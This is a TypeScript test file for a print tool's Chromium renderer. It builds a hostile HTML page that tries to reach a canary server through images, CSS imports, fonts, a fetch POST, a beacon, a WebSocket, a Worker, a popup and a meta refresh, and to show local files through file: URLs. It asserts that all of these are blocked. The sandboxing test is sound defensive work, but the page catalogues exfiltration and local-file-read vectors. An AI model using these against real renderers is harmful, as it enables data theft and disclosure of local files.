// A hostile edition, rendered by the print tools' renderer in real Chromium
// over real HTTP: the page tries every way out it has (another origin's image,
// styles and fonts, a script's fetch POSTing raw printer bytes, a beacon, a
// WebSocket, a meta refresh, file: URLs in a frame and a stylesheet), and a
// canary on another loopback port must see no connection at all, no local file
// may reach the paper, while the publication's own image still prints. A page
// of text over 2,000,000 px long is cut at sirius's 10,000 in bounded time and
// memory (captured whole, it took Chromium 14 to 36 s and 1.8 GB more here).
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { main as print } from "../../scripts/print.ts";
import { decodePng } from "../../scripts/preview/print-image.ts";
import { MAX_HEIGHT, PaperRenderer } from "../../scripts/preview/render.ts";
import { startSirius } from "../../scripts/sirius.ts";
import { workerBrowser } from "../helpers/browser.ts";
import { PAGE_MS, RENDER_TEST_MS } from "../helpers/page-time.ts";
import { childrenRssMiB, watchPeak } from "../helpers/process-memory.ts";

const header = { at: new Date("2026-11-23T06:00:00Z"), from: "Hostile", timeZone: "UTC" };

let browser: Browser;
let site: Server;
let canary: Server;
let siteUrl: string;
let canaryUrl: string;
const siteRequests: string[] = [];
const canarySaw: string[] = [];
const dir = mkdtempSync(path.join(tmpdir(), "littlepress-hostile-"));
const MARKER = "LITTLEPRESS-SECRET-MARKER";
/** A local file the page must not show: black all over, so that it would darken the paper. */
const secret = path.join(dir, "secret.html");
const secretCss = path.join(dir, "secret.css");

function listen(server: Server): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
  );
}

/** The edition: the publication's own black square at the top left, then every way out. */
function hostileEdition(): string {
  const ws = canaryUrl.replace("http:", "ws:");
  return `<style>
  @import url("${canaryUrl}/import.css");
  @font-face { font-family: Evil; src: url("${canaryUrl}/font.woff2"); }
  body { margin: 0; }
  .bg { height: 20px; background-image: url("${canaryUrl}/background.png"); font-family: Evil; }
</style>
<link rel="stylesheet" href="${canaryUrl}/linked.css">
<link rel="stylesheet" href="${pathToFileURL(secretCss).href}">
<meta http-equiv="refresh" content="0; url=${canaryUrl}/refresh">
<img id="own" src="${siteUrl}/square.png" width="100" height="100" style="display:block">
<img src="${canaryUrl}/image.png" width="10" height="10">
<div class="bg">x</div>
<iframe id="secret" src="${pathToFileURL(secret).href}"
  style="display:block;border:0;width:200px;height:200px"></iframe>
<script>
  fetch("${canaryUrl}/post", { method: "POST", mode: "no-cors", body: "\\x1b@RAW BYTES" }).catch(() => {});
  navigator.sendBeacon("${canaryUrl}/beacon", "\\x1b@RAW BYTES");
  try { new WebSocket("${ws}/socket"); } catch {}
  try { window.open("${canaryUrl}/popup"); } catch {}
  try {
    new Worker(URL.createObjectURL(new Blob(['fetch("${canaryUrl}/worker").catch(() => {})'])));
  } catch {}
</script>`;
}

beforeAll(async () => {
  writeFileSync(secret, `<body style="margin:0;background:#000;color:#fff">${MARKER}</body>`);
  writeFileSync(secretCss, "html, body { background: #000 !important; }");
  const square = await sharp({ create: { width: 100, height: 100, channels: 3, background: "#000" } })
    .png()
    .toBuffer();
  site = createServer((req, res) => {
    siteRequests.push(`${req.method} ${req.url}`);
    const url = new URL(req.url ?? "/", "http://x");
    if (url.pathname === "/tall/meta.json") {
      res.writeHead(200, { "Content-Type": "application/json" });
      return res.end(JSON.stringify({ name: "Tall" }));
    }
    if (url.pathname === "/tall/edition/") {
      res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ETag: '"1"' });
      return res.end(
        '<div style="height:200000px;background:repeating-linear-gradient(#000 0 1px,#fff 1px 3px)"></div>',
      );
    }
    if (url.pathname === "/pub/meta.json") {
      res.writeHead(200, { "Content-Type": "application/json" });
      return res.end(JSON.stringify({ name: "Hostile" }));
    }
    if (url.pathname === "/pub/edition/") {
      res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ETag: '"1"' });
      return res.end(hostileEdition());
    }
    if (url.pathname === "/square.png") {
      res.writeHead(200, { "Content-Type": "image/png" });
      return res.end(square);
    }
    res.writeHead(404).end();
  });
  canary = createServer((req, res) => {
    canarySaw.push(`${req.method} ${req.url}`);
    res.end("x");
  });
  canary.on("connection", () => canarySaw.push("connection"));
  canary.on("upgrade", (req, socket) => {
    canarySaw.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  siteUrl = await listen(site);
  canaryUrl = await listen(canary);
  browser = await workerBrowser();
}, RENDER_TEST_MS);

afterAll(() => {
  site.closeAllConnections();
  site.close();
  canary.closeAllConnections();
  canary.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Mean grey of a rectangle of a screenshot (0 black, 255 white). */
async function grey(png: Buffer, x0: number, y0: number, w: number, h: number): Promise<number> {
  const px = await decodePng(png);
  let sum = 0;
  for (let y = y0; y < y0 + h; y++) for (let x = x0; x < x0 + w; x++) sum += px.data[(y * px.width + x) * px.channels]!;
  return sum / (w * h);
}

/** Where the edition starts on sirius's page: below the header (the own image is the first thing). */
async function topOfEdition(png: Buffer): Promise<number> {
  const px = await decodePng(png);
  for (let y = 0; y < px.height; y++) if (px.data[(y * px.width + 50) * px.channels]! < 40) return y;
  return -1;
}

describe("a hostile edition, rendered by the print tools", () => {
  it(
    "reaches nothing but its own origin, shows no local file, and its own image prints",
    async () => {
      canarySaw.length = 0;
      siteRequests.length = 0;
      const renderer = await PaperRenderer.open(browser, undefined, PAGE_MS);
      try {
        const render = await renderer.renderHtml(hostileEdition(), header, { origin: `${siteUrl}/pub/edition/` });
        await new Promise((r) => setTimeout(r, 1500)); // a late beacon or refresh would have arrived
        expect(canarySaw).toEqual([]);
        // The publication's own image was asked for, over the checked fetch, and is black on the paper.
        expect(siteRequests).toContain("GET /square.png");
        const top = await topOfEdition(render.png);
        expect(top).toBeGreaterThan(0);
        expect(await grey(render.png, 10, top + 10, 80, 80)).toBeLessThan(20);
        // Beside it, and below it where the file's frame is, the paper is white: no local file was shown.
        expect(await grey(render.png, 150, top + 10, 200, 80)).toBeGreaterThan(235);
        expect(await grey(render.png, 10, top + 140, 180, 150)).toBeGreaterThan(235);
        expect(render.heightPx).toBeLessThan(1000);
        // What was refused is reported.
        expect(render.blocked.some((u) => u.startsWith(canaryUrl))).toBe(true);
      } finally {
        await renderer.close();
      }
    },
    RENDER_TEST_MS,
  );

  it(
    "littlepress print sends the canary nothing and loads the publication's own image",
    async () => {
      canarySaw.length = 0;
      siteRequests.length = 0;
      const out = { stdout: "", stderr: "" };
      const device = path.join(dir, "lp0");
      const code = await print(
        [`${siteUrl}/pub/`, "--to", device, "--at", "2026-11-23T06:00:00Z", "--tz", "UTC"],
        {
          stdout: (t) => (out.stdout += t),
          stderr: (t) => (out.stderr += t),
        },
        { browser },
      );
      await new Promise((r) => setTimeout(r, 1000));
      expect(out.stderr).toBe("");
      expect(code).toBe(0);
      expect(canarySaw).toEqual([]);
      // Refused, and said so; the own image is not among them.
      expect(out.stdout).toMatch(/^print: not loaded \(a page loads only its publication's own .*\/image\.png/m);
      expect(out.stdout).not.toContain(`${siteUrl}/square.png`);
      expect(siteRequests).toContain("GET /square.png");
    },
    RENDER_TEST_MS,
  );

  it(
    "the sirius stand-in, which knows no origin, loads nothing from this machine either",
    async () => {
      canarySaw.length = 0;
      const lines: string[] = [];
      const sirius = await startSirius({
        out: path.join(dir, "prints"),
        port: 0,
        printers: [{ key: "hostilekey", name: "Porch", online: true }],
        log: (line) => lines.push(line),
        timeoutMs: PAGE_MS,
      });
      try {
        const res = await fetch(`${sirius.keyUrl("hostilekey")}?from=Hostile`, {
          method: "POST",
          headers: { "Content-Type": "text/html" },
          body: hostileEdition(),
        });
        expect(res.status).toBe(200);
        await sirius.idle();
        await new Promise((r) => setTimeout(r, 1000));
        expect(canarySaw).toEqual([]);
        expect(lines.join("\n")).toMatch(/not loaded: /);
      } finally {
        await sirius.close();
      }
    },
    RENDER_TEST_MS,
  );
});

describe("a page 2,000,000 px long", () => {
  it(
    "is cut at sirius's length in bounded time, without Chromium's memory growing with the page",
    async () => {
      const renderer = await PaperRenderer.open(browser, undefined, PAGE_MS);
      const before = await childrenRssMiB();
      const watch = watchPeak(childrenRssMiB, 100);
      try {
        // Bounded in time by the renderer's own limit (a RenderError past it); how fast is the bench's to say. It
        // did not load in 30 s in a loaded CI run.
        const render = await renderer.renderHtml(
          `<p>${"line of text that wraps across the paper width ".repeat(40_000)}</p>`,
          header,
        );
        const png = await decodePng(render.png);
        expect(render.heightPx).toBeGreaterThan(1_000_000);
        expect(png.height).toBe(MAX_HEIGHT);
        // About 800 MiB here (Chromium's page and a 384 x 10,000 capture); captured whole, 1.8 GB.
        expect((await watch.stop()) - before).toBeLessThan(1300);
      } finally {
        await watch.stop();
        await renderer.close();
      }
    },
    RENDER_TEST_MS,
  );

  it(
    "littlepress print says the page is cut, and prints 10,000 rows",
    async () => {
      const out = { stdout: "", stderr: "" };
      const device = path.join(dir, "lp-tall");
      const code = await print(
        [`${siteUrl}/tall/`, "--to", device, "--at", "2026-11-23T06:00:00Z", "--tz", "UTC"],
        {
          stdout: (t) => (out.stdout += t),
          stderr: (t) => (out.stderr += t),
        },
        { browser },
      );
      expect(out.stderr).toBe("");
      expect(code).toBe(0);
      expect(out.stdout).toMatch(/^print: rendered 384 x 10000 dots/m);
      expect(out.stdout).toMatch(/^print: the page is 2\d{5} px long: cut at 10000, as sirius cuts it$/m);
    },
    RENDER_TEST_MS,
  );
});
